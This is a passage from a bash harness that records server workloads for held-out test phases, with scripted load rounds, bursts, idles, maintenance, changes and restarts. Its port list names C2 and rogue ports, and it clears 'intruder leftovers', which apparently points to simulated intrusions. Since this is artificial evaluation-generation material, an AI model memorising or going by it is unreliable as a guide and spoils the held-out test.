    HELDOUT8_CONC=4 HELDOUT8_PER=8
    rounds HELDOUT8_ROUND 12 "${s}_heldout8_mix" "$v1"
    "${s}_heldout8_maint"
    "${s}_heldout8_change"
    heldout8_sawtooth "$s" 14 "$v2"
    "${s}_heldout8_late"
    HELDOUT8_CONC=2 HELDOUT8_PER=4
    rounds HELDOUT8_ROUND 8 "${s}_heldout8_mix" "$v3"
    heldout_end "$s" heldout8 "$HELDOUT8_ROUND"
  fi

  if want_phase heldout9; then
    # Pauses between rounds (s): cold start, keep-alive, tail; and the burst's rounds (a batch
    # round waits for the next run).
    local u1=1.2 u2=0.9 u3=1.6 nb=10
    [ "$s" != batch ] || { u1=3; u2=3; u3=4; nb=3; }
    say "$s: heldout9 (a cold start of short-lived clients, maintenance, long keep-alive rounds, a change, a long idle, a burst, a late event, a tail)"
    HELDOUT9_ROUND=0
    heldout_begin "$s" heldout9
    HELDOUT9_CONC=10 HELDOUT9_PER=1
    rounds HELDOUT9_ROUND 10 "${s}_heldout9_mix" "$u1"
    "${s}_heldout9_maint"
    HELDOUT9_CONC=3 HELDOUT9_PER=12
    rounds HELDOUT9_ROUND 14 "${s}_heldout9_mix" "$u2"
    "${s}_heldout9_change"
    sleep "$HELDOUT9_IDLE_SECONDS"
    HELDOUT9_CONC=20 HELDOUT9_PER=2
    burst HELDOUT9_ROUND "$nb" "${s}_heldout9_mix"
    "${s}_heldout9_late"
    HELDOUT9_CONC=5 HELDOUT9_PER=5
    rounds HELDOUT9_ROUND 8 "${s}_heldout9_mix" "$u3"
    heldout_end "$s" heldout9 "$HELDOUT9_ROUND"
  fi

  if want_phase heldout10; then
    # Pauses between rounds (s): opening, medium, tail; and the burst's rounds (a batch round
    # waits for the next run).
    local x1=0.6 x2=0.9 x3=1.3 nb=5
    [ "$s" != batch ] || { x1=3; x2=3; x3=4; nb=2; }
    say "$s: heldout10 (busy opening rounds, an early change, medium rounds, a late event, an idle, a burst, maintenance, a keep-alive tail)"
    HELDOUT10_ROUND=0
    heldout_begin "$s" heldout10
    heldout10_stretch "$s" 4 5 12 "$x1"
    "${s}_heldout10_change"
    heldout10_stretch "$s" 12 2 14 "$x2"
    "${s}_heldout10_late"
    sleep "$HELDOUT10_IDLE_SECONDS"
    HELDOUT10_CONC=48 HELDOUT10_PER=1
    burst HELDOUT10_ROUND "$nb" "${s}_heldout10_mix" 0.2
    "${s}_heldout10_maint"
    heldout10_stretch "$s" 2 10 10 "$x3"
    heldout_end "$s" heldout10 "$HELDOUT10_ROUND"
  fi

  if want_phase heldout11; then
    # Pauses between rounds (s): ramp, steady, after the change, tail; and how long each step
    # of the ramp lasts (a batch round waits for the next run).
    local y1=0.6 y2=1 y3=1.2 y4=1.5 step=3
    [ "$s" != batch ] || { y1=3; y2=3; y3=3; y4=4; step=2; }
    say "$s: heldout11 (a slow ramp, maintenance early, steady rounds, a change, more rounds, a long idle, a late event, a tail)"
    HELDOUT11_ROUND=0
    heldout_begin "$s" heldout11
    heldout11_ramp "$s" "$step" "$y1" 1 2 4 8 16
    "${s}_heldout11_maint"
    phase_stretch heldout11 "$s" 6 2 10 "$y2"
    "${s}_heldout11_change"
    phase_stretch heldout11 "$s" 3 4 10 "$y3"
    sleep "$HELDOUT11_IDLE_SECONDS"
    "${s}_heldout11_late"
    phase_stretch heldout11 "$s" 5 1 8 "$y4"
    heldout_end "$s" heldout11 "$HELDOUT11_ROUND"
  fi

  if want_phase heldout12; then
    # Pauses between rounds (s): the busy start, the trickle, the tail; and the quiet gap
    # after each burst (a batch round waits for the next run).
    local z1=0.5 z2=1 z3=0.8 gap=6
    [ "$s" != batch ] || { z1=3; z2=4; z3=3; gap=4; }
    phase_begin heldout12 "$s" "a busy start with the change in it, bursts with quiet gaps, maintenance, more bursts, a trickle, a late event, a tail"
    phase_stretch heldout12 "$s" 10 3 4 "$z1"
    "${s}_heldout12_change"
    phase_stretch heldout12 "$s" 10 3 5 "$z1"
    heldout12_bursts "$s" 2 "$gap"
    "${s}_heldout12_maint"
    heldout12_bursts "$s" 2 "$gap"
    phase_stretch heldout12 "$s" 1 1 15 "$z2"
    "${s}_heldout12_late"
    phase_stretch heldout12 "$s" 8 2 6 "$z3"
    heldout_end "$s" heldout12 "$HELDOUT12_ROUND"
  fi

  if want_phase heldout13; then
    # Pauses between rounds (s) in the steady stretches, and the flood's rounds (a batch
    # round waits for the next run).
    local w1=1 nf=3
    [ "$s" != batch ] || { w1=3; nf=2; }
    phase_begin heldout13 "$s" "maintenance at the start, steady medium rounds, a restart in the middle, more steady rounds, a change late, a short idle, a final flood"
    "${s}_heldout13_maint"
    phase_stretch heldout13 "$s" 6 2 14 "$w1"
    "${s}_heldout13_restart"
    phase_stretch heldout13 "$s" 6 2 12 "$w1"
    "${s}_heldout13_change"
    phase_stretch heldout13 "$s" 6 2 4 "$w1"
    sleep "$HELDOUT13_IDLE_SECONDS"
    HELDOUT13_CONC=64 HELDOUT13_PER=1
    burst HELDOUT13_ROUND "$nf" "${s}_heldout13_mix" 0.5
    heldout_end "$s" heldout13 "$HELDOUT13_ROUND"
  fi

  if want_phase heldout14; then
    # Added to each pause between rounds (s): a batch round includes the run.
    local extra=0
    [ "$s" != batch ] || extra=2
    phase_begin heldout14 "$s" "a gradual ramp of load with the change early, maintenance in the middle while the load goes on, a graceful reload late, a slow tail of long-lived clients"
    heldout14_ramp "$s" 8 1 3 "$extra"
    "${s}_heldout14_change"
    heldout14_ramp "$s" 12 3 7 "$extra"
    alongside "${s}_heldout14_maint" heldout14_ramp "$s" 12 7 10 "$extra"
    "${s}_heldout14_reload"
    heldout14_ramp "$s" 6 10 12 "$extra"
    HELDOUT14_ROUND=$((HELDOUT14_ROUND + 1))
    "${s}_heldout14_tail" "$HELDOUT14_TAIL_SECONDS"
    heldout_end "$s" heldout14 "$HELDOUT14_ROUND"
  fi

  if want_phase heldout15; then
    # The pause between the opening rounds (s): a batch round includes the run.
    local pz=0.5
    [ "$s" != batch ] || pz=1
    phase_begin heldout15 "$s" "full load at once with the maintenance in it, short bursts between long idle gaps, a stop and start by the service's own control command, more bursts, the change last, bursts after it"
    HELDOUT15_BURST=0
    alongside "${s}_heldout15_maint" phase_stretch heldout15 "$s" 9 2 8 "$pz"
    heldout15_bursts "$s" 3
    "${s}_heldout15_restart"
    heldout15_bursts "$s" 2
    "${s}_heldout15_change"
    heldout15_bursts "$s" 2
    heldout_end "$s" heldout15 "$HELDOUT15_ROUND"
  fi

  if want_phase heldout16; then
    # Pauses between rounds (s): the quiet start, the steady middle (a batch round includes
    # the run).
    local pq=2 pm=1
    [ "$s" != batch ] || { pq=3; pm=3; }
    phase_begin heldout16 "$s" "a quiet start with one slow client, a change early by the service's graceful path, a long steady middle at moderate load, a second change of another kind two thirds in, the maintenance last, a clean shutdown"
    phase_stretch heldout16 "$s" 1 1 8 "$pq"
    "${s}_heldout16_change"
    phase_stretch heldout16 "$s" 5 2 22 "$pm"
    "${s}_heldout16_second"
    phase_stretch heldout16 "$s" 5 2 14 "$pm"
    "${s}_heldout16_maint"
    heldout16_end "$s"
  fi
  if want_phase heldout17; then
    # The pause between the wave's rounds (s): a batch round includes the run.
    local wp=0.6
    [ "$s" != batch ] || wp=2
    say "$s: heldout17 (a cold start under retrying clients, maintenance early, a slow wave of load, a change by a full restart, a second wave with maintenance late, the end under load)"
    heldout17_begin "$s"
    "${s}_heldout17_early"
    heldout17_wave "$s" "$wp"
    "${s}_heldout17_change"
    heldout17_wave "$s" "$wp" 0 6
    alongside "${s}_heldout17_late" heldout17_wave "$s" "$wp" 6
    heldout17_end "$s"
  fi
}

# --- main ---------------------------------------------------------------------------------

say "installing the servers and load generators"
install_packages
[ -x "$DW" ] && [ -x "$WORKLOAD_BIN" ] || BUILD_DIR=$BUILD_DIR bash tools/scripts/build.sh >/dev/null
for port in $NGINX_PORT $REDIS_PORT $PG_PORT $C2_PORT $BIND_PORT $ROGUE_PORT $HAPROXY_PORT \
    $HAPROXY_STATS_PORT "${BACKEND_PORTS[@]}" $GUNICORN_PORT $((PG_RELAY_PORT + 5)) \
    $((PG_RELAY_PORT + 9)) $((PG_RELAY_PORT + 17)) $HAPROXY_HELDOUT4_PORT $MARIADB_PORT \
    $((MARIADB_RELAY_PORT + 5)) $((MARIADB_RELAY_PORT + 9)) $((MARIADB_RELAY_PORT + 17)) $APACHE_PORT \
    $PF_PORT $PF_SINK_PORT; do
  if ss -Hltn "sport = :$port" | grep -q .; then die "port $port is in use"; fi
done
rm -rf "$WORK"
mkdir -p "$WORK"
chmod 755 "$WORK"
for s in "${SERVERS[@]}"; do
  phases_of "$s"
  [ ${#PHASES[@]} -gt 0 ] || continue
  record_server "$s"
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null || true; done
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null || true; done
  PIDS=()
  BACKEND_PIDS=("" "" "")
  remove_intruder_leftovers
  ls -l "testdata/$s" >&2
done
